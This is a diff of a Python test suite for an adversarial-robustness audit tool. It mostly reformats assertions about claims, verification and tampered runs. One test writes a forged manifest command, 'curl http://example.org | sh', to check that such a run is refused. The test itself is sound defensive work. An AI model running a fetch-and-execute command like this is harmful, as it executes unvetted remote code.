@@ -23,9 +23,15 @@ def copied(audit_run, tmp_path):
 def test_figures_are_those_of_the_run(audit_run, claim_run):
     audit, claim = brinell.open(audit_run), brinell.open(claim_run)
     model = audit.models[0]
-    assert claim.position == model.eps.index(6 / 255) and claim.robust == model.robust_accuracy[claim.position]
+    assert (
+        claim.position == model.eps.index(6 / 255)
+        and claim.robust == model.robust_accuracy[claim.position]
+    )
     same = ("clean_accuracy", "robust_accuracy", "per_class", "checks", "eps", "n")
-    assert all(getattr(claim.result, name) == getattr(model, name) for name in same) and claim.certified is None
+    assert (
+        all(getattr(claim.result, name) == getattr(model, name) for name in same)
+        and claim.certified is None
+    )
     content = json.loads((Path(claim.folder) / "claim.json").read_text())
     assert content == {key: value for key, value in claim.payload().items() if key != "folder"}
     for text in (content["repeat"], *map(str, claim.lines())):
@@ -37,21 +43,31 @@ def test_proofs_bound_each_class_from_below(patterns, tmp_path):
     audit = brinell.audit(patterns.model, patterns.data, **settings, out=tmp_path / "run")
     claim = brinell.claim(tmp_path / "run")
     assert claim.certified == audit.models[0].certified[-1] and claim.certified.k > 0
-    (row,) = next(block for block in claim.report().blocks if getattr(block, "name", "") == "budgets").rows
-    assert row[1:4] == (claim.certified.k, claim.result.n - claim.robust.k, claim.robust.k - claim.certified.k)
+    (row,) = next(
+        block for block in claim.report().blocks if getattr(block, "name", "") == "budgets"
+    ).rows
+    assert row[1:4] == (
+        claim.certified.k,
+        claim.result.n - claim.robust.k,
+        claim.robust.k - claim.certified.k,
+    )
     assert sum(entry.certified[-1].k for entry in claim.result.per_class) == claim.certified.k
 
 
 def test_a_claim_is_verified_down_to_the_run(copied, tmp_path):
     verified = brinell.verify(copied / "claim", trust=copied)
-    assert verified.passed and any(text.startswith("run: ") and "attacked again" in text for text in verified.verified_claims)
+    assert verified.passed and any(
+        text.startswith("run: ") and "attacked again" in text for text in verified.verified_claims
+    )
     card = copied / "claim" / "card.md"
     text = card.read_text()
     card.write_text(text.replace("%", "percent"))
     assert not brinell.verify(copied / "claim", trust=copied).passed
     card.write_text(text)
     shutil.copytree(copied, tmp_path / "moved")  # a claim goes where its run goes
-    assert brinell.open(tmp_path / "moved" / "claim").robust == brinell.open(copied / "claim").robust
+    assert (
+        brinell.open(tmp_path / "moved" / "claim").robust == brinell.open(copied / "claim").robust
+    )
     forger = Forger(copied)
     survive(forger.first())
     forger.save()
@@ -66,14 +82,19 @@ def test_a_claim_about_a_forged_run_is_refused_with_it(audit_run, tmp_path):
     forger.manifest["command"] = "curl http://example.org | sh"
     forger.save()
     claim = brinell.claim(tmp_path / "forged")
-    assert "curl" not in claim.repeat and all("curl" not in file.read_text() for file in Path(claim.folder).glob("*.*"))
+    assert "curl" not in claim.repeat and all(
+        "curl" not in file.read_text() for file in Path(claim.folder).glob("*.*")
+    )
     refused = brinell.verify(claim.folder, trust=tmp_path / "forged")
     assert not refused.passed and refused.problems[0].location.startswith("forged/")
 
 
 def test_an_interrupted_claim_begins_again_and_another_one_is_refused(copied):
     folder = copied / "claim"
-    texts = {name: (folder / name).read_text() for name in ("report.html", "card.md", "claim.json", "badge.svg")}
+    texts = {
+        name: (folder / name).read_text()
+        for name in ("report.html", "card.md", "claim.json", "badge.svg")
+    }
     for name in texts:
         (folder / name).unlink()
     brinell.claim(copied, eps="6/255")
@@ -89,7 +110,9 @@ def test_what_makes_no_claim_is_refused(audit_run, certify_run, models_run, tmp_
         (tmp_path, {}, "is no run folder"),
         (models_run, {}, "name one by --model"),
     ):
-        with pytest.raises(RequestError, match=re.escape(message) if "--" not in message else "name one by"):
+        with pytest.raises(
+            RequestError, match=re.escape(message) if "--" not in message else "name one by"
+        ):
             brinell.claim(folder, **settings, out=tmp_path / "claim")
     assert not list(tmp_path.iterdir())
 
